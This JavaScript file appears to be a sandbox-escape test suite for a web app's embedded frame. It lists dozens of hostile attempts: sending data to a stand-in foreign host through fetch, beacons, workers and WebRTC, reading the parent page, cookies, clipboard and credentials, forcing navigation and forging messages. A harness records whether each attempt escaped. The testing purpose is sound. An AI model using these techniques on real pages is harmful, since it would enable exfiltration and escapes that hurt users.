// What a hostile status bar may try. Each attempt runs inside the frame; it has escaped if it gives something true, and is
// held if it gives nothing or throws. `FOREIGN` and `STUN` name somebody else's server.
//
// NETWORK: these send something out from a page that nothing protects, and the control in the journey holds them to it.
// INSIDE: these reach for the page, the browser or the reader. LEAVING: each leads the frame somewhere else.

/* global FOREIGN, STUN */
/* eslint-disable no-undef */

const rtc = `
  const made = new RTCPeerConnection({ iceServers: [{ urls: STUN }] });
  made.createDataChannel('x');
  made.createOffer().then((offer) => made.setLocalDescription(offer));`;

export const NETWORK = {
  fetch: () => fetch(`${FOREIGN}/fetch`),
  'fetch without cors': () => fetch(`${FOREIGN}/fetch-without-cors`, { mode: 'no-cors' }),
  xhr: () => load(new XMLHttpRequest(), (xhr) => (xhr.open('GET', `${FOREIGN}/xhr`), xhr.send())),
  websocket: () => load(new WebSocket(`${FOREIGN.replace('http', 'ws')}/websocket`), () => {}, 'open'),
  eventsource: () => load(new EventSource(`${FOREIGN}/eventsource`), () => {}, 'open'),
  // It gives true, and is stopped later.
  beacon: () => void navigator.sendBeacon(`${FOREIGN}/beacon`, 'x'),
  img: () => load(new Image(), (img) => (img.src = `${FOREIGN}/img`)),
  srcset: () => load(new Image(), (img) => (img.srcset = `${FOREIGN}/srcset 1x`)),
  'svg image': () => put(`<svg><image href="${FOREIGN}/svg-image"/></svg>`),
  stylesheet: () => put(`<link rel="stylesheet" href="${FOREIGN}/stylesheet">`),
  'css import': () => put(`<style>@import url(${FOREIGN}/css-import);</style>`),
  'css url': () => put(`<div style="background:url(${FOREIGN}/css-url)">x</div>`),
  font: () => new FontFace('f', `url(${FOREIGN}/font)`).load(),
  script: () => load(document.createElement('script'), (script) => ((script.src = `${FOREIGN}/script`), document.body.append(script))),
  import: () => import(`${FOREIGN}/import`),
  'import of data': () => import(`data:text/javascript,fetch("${FOREIGN}/import-of-data")`).then(() => rest()),
  video: () => put(`<video src="${FOREIGN}/video" preload="auto"></video>`),
  audio: () => put(`<audio src="${FOREIGN}/audio" preload="auto"></audio>`),
  track: () => put(`<video crossorigin poster="${FOREIGN}/track"></video>`),
  object: () => put(`<object data="${FOREIGN}/object"></object>`),
  embed: () => put(`<embed src="${FOREIGN}/embed">`),
  iframe: () => put(`<iframe src="${FOREIGN}/iframe"></iframe>`),
  'iframe in srcdoc': () => put(`<iframe srcdoc='<img src="${FOREIGN}/iframe-in-srcdoc">'></iframe>`),
  'refresh in srcdoc': () => put(`<iframe srcdoc='<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh-in-srcdoc">'></iframe>`),
  prefetch: () => put(`<link rel="prefetch" href="${FOREIGN}/prefetch">`),
  preload: () => put(`<link rel="preload" as="image" href="${FOREIGN}/preload">`),
  modulepreload: () => put(`<link rel="modulepreload" href="${FOREIGN}/modulepreload">`),
  form: () => put(`<form action="${FOREIGN}/form" method="post" target="sink"><input name="a" value="b"></form><iframe name="sink"></iframe>`, (box) => box.querySelector('form').submit()),
  ping: () => put(`<a href="#ping" ping="${FOREIGN}/ping">x</a>`, (box) => box.querySelector('a').click()),
  'worker of a blob': () => {
    new Worker(URL.createObjectURL(new Blob([`fetch("${FOREIGN}/worker-of-a-blob")`])));
    return rest();
  },
  'worker that imports': () => {
    new Worker(URL.createObjectURL(new Blob([`importScripts("${FOREIGN}/worker-that-imports")`])));
    return rest();
  },
  'worker of data': () => {
    new Worker(`data:text/javascript,fetch("${FOREIGN}/worker-of-data")`);
    return rest();
  },
};

/** As [`NETWORK`], over UDP: past every policy, where the constructor is still there. */
export const WEBRTC = {
  'webrtc': () => void eval(RTC),
  'webrtc of a blank frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow.eval(`const STUN = ${JSON.stringify(STUN)}; ${RTC}`);
  },
  'webrtc in srcdoc': () => inner((frame, script) => (frame.srcdoc = script)),
  'webrtc in a handler of srcdoc': () => inner((frame, _, code) => (frame.srcdoc = `<img src="data:," onerror="${code}">`)),
  'webrtc in javascript:': () => inner((frame, _, code) => (frame.src = `javascript:${code}`)),
  'webrtc in data:': () => inner((frame, script) => (frame.src = `data:text/html,${encodeURIComponent(script)}`)),
  'webrtc in a blob': () => inner((frame, script) => (frame.src = URL.createObjectURL(new Blob([script], { type: 'text/html' })))),
};

export const INSIDE = {
  'the page': () => parent.document.body.innerHTML,
  'the page by name': () => top.document.title,
  'where the page is': () => parent.location.href,
  'the frame element': () => frameElement,
  'a word of the page': () => parent.localStorage.length,
  'top navigation': () => ((top.location = `${FOREIGN}/top`), 'went'),
  'top address': () => ((top.location.hash = '#/settings'), 'went'),
  'the history of the page': () => {
    history.go(-1);
    history.back();
  },
  'closing the page': () => top.close(),
  'a window': () => window.open(`${FOREIGN}/window`),
  'a window by a link': () => put(`<a href="${FOREIGN}/link" target="_blank">x</a>`, (box) => box.querySelector('a').click()),
  'top by a link': () => put(`<a href="${FOREIGN}/top-link" target="_top">x</a>`, (box) => box.querySelector('a').click()),
  'top by a form': () => put(`<form action="${FOREIGN}/top-form" target="_top"></form>`, (box) => box.querySelector('form').submit()),
  download: () => put(`<a href="data:text/plain,x" download="x.txt">x</a>`, (box) => box.querySelector('a').click()),
  localStorage: () => localStorage,
  sessionStorage: () => sessionStorage,
  indexedDB: () => load(indexedDB.open('fabula'), () => {}, 'success'),
  'databases': () => indexedDB.databases(),
  caches: () => caches.open('x'),
  cookies: () => ((document.cookie = 'a=b'), document.cookie),
  'private files': () => navigator.storage.getDirectory(),
  'storage access': () => document.requestStorageAccess().then(() => 'granted'),
  locks: () => navigator.locks.request('fabula', { steal: true }, () => 'held'),
  'a service worker': () => navigator.serviceWorker.register('frame.html'),
  'a shared worker': () => new SharedWorker('memory-worker.js'),
  'the page by fetch': () => fetch('index.html'),
  clipboard: () => navigator.clipboard.readText(),
  'writing the clipboard': () => navigator.clipboard.writeText('x').then(() => 'written'),
  'copying': () => document.execCommand('copy'),
  dialogs: () => confirm('x') || prompt('x'),
  fullscreen: () => document.body.requestFullscreen().then(() => 'full'),
  place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  notifications: () => Notification.requestPermission().then((answer) => answer === 'granted'),
  credentials: () => navigator.credentials.get({ password: true }),
  domain: () => ((document.domain = '127.0.0.1'), 'set'),
  opener: () => opener,
  'the code of a nested frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    return frame.contentWindow.document;
  },
  'a policy that allows more': () => {
    document.head.insertAdjacentHTML('afterbegin', '<meta http-equiv="Content-Security-Policy" content="connect-src *">');
    return fetch(`${FOREIGN}/policy`);
  },
  'channels': () => {
    for (const name of ['fabula', 'fabula-tabs']) new BroadcastChannel(name).postMessage({ kind: 'changed', hacked: true });
  },
  'forged messages': () => {
    const forged = [
      null, 7, {}, [], 'send', { fabula: 'send' }, { fabula: 'draft', text: 'an object' }, new Map([['fabula', 'ready']]),
      '{"fabula":"send","text":"sent"}', '{"fabula":"draft"}', '{"fabula":"draft","text":["x"]}', '{"fabula":"draft","text":"x","send":true}',
      '{"fabula":"key"}', '{"fabula":"state","n":1}', '{"fabula":"begin","code":"x"}', '{"__proto__":{"fabula":"draft"},"text":"x"}',
      `{"fabula":"draft","text":"${'x'.repeat(1 << 20)}"}`, '[[[[', '{"fabula":"height","px":"9999px"}', '{"fabula":"seen","n":1e999}',
    ];
    for (const message of forged) parent.postMessage(message, '*');
  },
};

export const LEAVING = {
  'to a foreign address': () => (location = `${FOREIGN}/leaving`),
  'by a refresh': () => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">`),
  'by a link': () => put(`<a href="${FOREIGN}/link">x</a>`, (box) => box.querySelector('a').click()),
  'to data': () => (location = `data:text/html,${encodeURIComponent(script(RTC))}`),
  'to a blob': () => (location = URL.createObjectURL(new Blob([script(RTC)], { type: 'text/html' }))),
  'to nothing': () => (location = 'about:blank'),
  'to the page itself': () => (location = 'index.html'),
  'to itself again': () => location.reload(),
  'by writing it anew': () => {
    document.open();
    document.write(`<img src="${FOREIGN}/written">${script(RTC)}`);
    document.close();
  },
};

/** HTML that makes the attempts all at once; `outcomes` of its window tells how they went, `finished` when. */
export function attack(attempts, { origin, stun }) {
  const table = Object.entries(attempts).map(([name, run]) => `${JSON.stringify(name)}: ${run}`);
  return `<div id="box"></div><script>
    var FOREIGN = ${JSON.stringify(origin)}, STUN = ${JSON.stringify(stun)}, RTC = ${JSON.stringify(rtc)};
    var outcomes = {}, finished = false;
    const rest = () => new Promise((done) => setTimeout(done, 700));
    const put = (html, then = () => {}) => {
      const box = document.body.appendChild(document.createElement('div'));
      box.innerHTML = html;
      then(box);
      return rest();
    };
    const load = (thing, start, good = 'load') => new Promise((done, fail) => {
      thing.addEventListener(good, () => done('loaded'));
      thing.addEventListener('error', () => fail(new Error('not loaded')));
      start(thing);
      rest().then(done);
    });
    const script = (code) => '<' + 'script>const STUN = ' + JSON.stringify(STUN) + ';' + code + '</' + 'script>';
    const inner = (set) => {
      const frame = document.createElement('iframe');
      const code = ('const STUN = ' + JSON.stringify(STUN) + ';' + RTC).replaceAll('"', "'");
      set(frame, script(RTC), code);
      document.body.append(frame);
      return rest();
    };
    const attempts = { ${table.join(',\n')} };
    const made = Object.entries(attempts).map(async ([name, run]) => {
      try {
        const got = await Promise.race([run(), rest()]);
        outcomes[name] = got ? 'ESCAPED: ' + got : 'held';
      } catch (error) {
        outcomes[name] = 'held: ' + error.name;
      }
    });
    Promise.all(made).then(() => (finished = true));
  </` + 'script>';
}
